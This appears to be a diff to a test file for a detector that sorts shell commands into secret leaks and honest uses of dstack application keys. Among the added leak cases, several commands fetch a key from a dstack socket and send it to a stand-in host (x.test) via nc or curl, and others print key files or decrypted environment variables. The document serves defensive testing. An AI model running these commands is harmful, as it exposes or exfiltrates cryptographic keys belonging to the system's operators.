@@ -96,6 +96,7 @@ MORE_LEAKS = (
     "cd /dstack; cat .host-shared/.appkeys.json",
     "cat /var/volatile/dstack/.host-shared/.appkeys.json",
 )
+ASK = 'curl -s --unix-socket /var/run/dstack.sock -d \'{"path":"a"}\' http://dstack/GetKey'
 WRAPPED = (
     *("env -i", "timeout 5", "stdbuf -o0", "nice -n 5", "unshare", "chroot /", "busybox", "sudo"),
     *("command", "systemd-run", "A=1", "setsid -w", "flock /x"),
@@ -120,6 +121,12 @@ OTHER_LEAKS = (
     "export $(cat /dstack/.host-shared/.decrypted-env)\nenv | sort",
     "declare -p",
     "export -p",
+    f"{ASK}",
+    f"{ASK} | jq .",
+    f"K=$({ASK})\necho $K",
+    f"{ASK} > /dev/console",
+    f"{ASK} | nc x.test 1",
+    f'curl -d "$({ASK})" https://x.test',
 )
 HONEST = (
     "export $(grep -v '^#' /dstack/.host-shared/.decrypted-env | xargs)",
@@ -128,6 +135,10 @@ HONEST = (
     f"A=$(jq -r .k256_key {KEYS}) docker compose up -d",
     f"cp {KEYS} /tmp/x",
     f"sha256sum {KEYS}",
+    f"K=$({ASK} | jq -r .key)\nexport K",
+    f"{ASK} > /run/key",
+    f"{ASK.replace('-s', '-s -o /run/key')}",
+    ASK.replace("GetKey", "Info"),
     "if grep -q '^A=' /dstack/.host-shared/.decrypted-env; then export B=1; fi",
     f'X=$(cat {KEYS})\n[ -n "$X" ] || exit 1\necho ok',
     'while read -r l; do export "$l"; done < /dstack/.host-shared/.decrypted-env',
